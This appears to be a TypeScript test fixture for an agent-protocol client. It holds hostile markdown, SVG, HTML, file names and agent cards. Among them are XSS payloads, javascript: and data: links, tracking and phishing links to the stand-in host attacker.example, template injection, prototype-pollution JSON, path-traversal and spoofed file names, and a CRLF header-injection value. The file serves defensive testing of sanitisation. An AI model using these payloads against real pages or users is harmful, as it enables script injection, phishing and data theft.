import { bytes, type JsonValue, json, link, type Part } from 'parley-a2a';

/** Where attacks call home. No name but 127.0.0.1 resolves in the tests, and a request to it fails them. */
const HOME = 'https://attacker.example';
/** What each script would do. */
const STRIKE = 'globalThis.owned=1;document.title="owned"';
const encoded = (text: string) => new TextEncoder().encode(text);

/** Markdown that tries to be more. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  `<script>${STRIKE}</script><img src=x onerror='${STRIKE}'><svg onload='${STRIKE}'><iframe srcdoc="<script>${STRIKE}</script>">`,
  `<style>body{display:none;background:url(${HOME}/css)}</style><link rel=stylesheet href=${HOME}/a.css><meta http-equiv=refresh content="0;url=${HOME}">`,
  `<form action=${HOME}><button id=root name=root>Sign in</button></form><base href=${HOME}><object data=${HOME}></object><embed src=${HOME}>`,
  `[click](javascript:${encodeURIComponent(STRIKE)}) [click](JaVaScRiPt:alert(1)) [click](&#106;avascript:alert(1)) [click](java\tscript:alert(1))`,
  `[click](data:text/html,<script>${STRIKE}</script>) [click](vbscript:x) [click](blob:null/x) [click](file:///etc/passwd)`,
  `![pixel](${HOME}/pixel.png) ![](data:image/svg+xml,<svg/onload='${STRIKE}'>) ![x](//attacker.example/p.gif "t\\" onload=x")`,
  `[https://bank.example](${HOME}/login) [mail](mailto:a@attacker.example) <https://bank.example@attacker.example/> [user](https://bank.example@attacker.example)`,
  `[ref]: javascript:${STRIKE}\n\n[ref] and [^1]\n\n[^1]: note <img src=${HOME}/n>`,
  `| <img src=${HOME}/t onerror=${STRIKE}> | [x](javascript:x) |\n|---|---|\n| \`<b>\` | ![i](${HOME}/i) |`,
  `\`\`\`html"><img src=x onerror=${STRIKE}>\n<script>${STRIKE}</script>\n\`\`\`\n\n\`\`\`js\n${STRIKE}\n\`\`\``,
  'right \u202e to left \u2066 isolate \u0000 null \u001b[31m escape \ufeff bom \u{e0041} tag',
  `${'> '.repeat(200)}deep quote\n\n${'- '.repeat(200)}deep list\n\n${'*'.repeat(500)}${'['.repeat(500)}${'`'.repeat(499)}`,
  // Words and levels that are wider than any window.
  `${'1. '.repeat(600)}deep steps\n\n${'W'.repeat(4000)}\n\n|${'W'.repeat(900)}|${'x|'.repeat(60)}\n|${'-|'.repeat(61)}\n|y|`,
  `{{constructor.constructor('${STRIKE}')()}} \${${STRIKE}} <%= ${STRIKE} %> javascript:${STRIKE}`,
];

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${STRIKE.replaceAll('"', "'")}">
<script>${STRIKE}</script><image href="${HOME}/svg.png" width="9" height="9"/><use xlink:href="${HOME}/s.svg#a"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${HOME}"/></foreignObject><rect width="40" height="40" fill="teal"/></svg>`;

/** File names that say something else, or lead somewhere else. */
export const HOSTILE_NAMES: readonly string[] = [
  '../../../etc/passwd',
  'C:\\Windows\\system32\\evil.exe',
  'report\u202efdp.exe',
  '.bashrc',
  'a"b<c>d|e?f*g:h.txt',
  `${'x'.repeat(400)}.txt`,
  '\u0000\u001b[2J',
  'con\r\nSet-Cookie: a=b.txt',
];

/** Files, links and data. */
export function hostileParts(): readonly Part[] {
  return [
    bytes(encoded(SVG), { filename: 'picture.svg', mediaType: 'image/svg+xml' }),
    bytes(encoded(`<!doctype html><script>${STRIKE}</script>`), { filename: 'page.html', mediaType: 'text/html' }),
    bytes(encoded(`<html xmlns="http://www.w3.org/1999/xhtml"><script>${STRIKE}</script></html>`), {
      filename: 'page.xhtml',
      mediaType: 'application/xhtml+xml; charset="><img src=x>',
    }),
    bytes(encoded('not a picture'), { filename: 'broken.png', mediaType: 'image/png' }),
    ...HOSTILE_NAMES.map((filename) => bytes(encoded('x'), { filename, mediaType: 'application/octet-stream' })),
    link(`javascript:${STRIKE}`, { filename: 'click me' }),
    link(`data:text/html,<script>${STRIKE}</script>`, { mediaType: 'text/html' }),
    link(`${HOME}/picture.png`, { filename: 'tot\u202egnp.exe', mediaType: 'image/png' }),
    json({ '<img src=x onerror=alert(1)>': '<script>alert(1)</script>', __html: STRIKE, toString: 'x' }),
    json(JSON.parse(`{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}`)),
    json(deep(150)),
    json({ huge: '\u202e<b>'.repeat(40_000), many: Array.from({ length: 3000 }, (_, index) => index) }),
  ];
}

function deep(levels: number): JsonValue {
  let value: JsonValue = ['<i>bottom</i>'];
  for (let level = 0; level < levels; level += 1) value = [value];
  return value;
}

/** Texts for fields of a card. */
export const HOSTILE_TEXT = `<img src=${HOME}/card onerror="${STRIKE}"><script>${STRIKE}</script>\u202e [x](javascript:x) ${'W'.repeat(400)}`;

/** Members of a card that lead somewhere. */
export const HOSTILE_CARD = {
  provider: { organization: HOSTILE_TEXT, url: 'javascript:globalThis.owned=1' },
  documentationUrl: 'data:text/html,<script>globalThis.owned=1</script>',
  iconUrl: `${HOME}/icon.svg`,
};

/** Cards whose members are of other kinds than the protocol says, each laid over a sound one. */
export const MALFORMED_CARDS: readonly object[] = [
  { description: { toString: 'x' }, version: ['1'], name: { html: HOSTILE_TEXT } },
  { skills: [{ id: {}, name: [HOSTILE_TEXT], description: 5, tags: HOSTILE_TEXT, examples: { a: 1 } }, null, 'x'] },
  { provider: 'x', documentationUrl: { href: HOME }, iconUrl: [HOME], defaultInputModes: { 0: 'a' }, signatures: 'x' },
  { capabilities: { streaming: 'yes', extensions: [{ uri: { a: 1 }, description: [1], params: HOSTILE_TEXT }, 7] } },
  {
    securitySchemes: { a: { type: {} }, b: null, c: { oauth2SecurityScheme: { flows: [1] } } },
    securityRequirements: [{ schemes: 5 }, 'x'],
  },
  { supportedInterfaces: [{ url: 'javascript:globalThis.owned=1', protocolBinding: {}, protocolVersion: 1 }] },
];
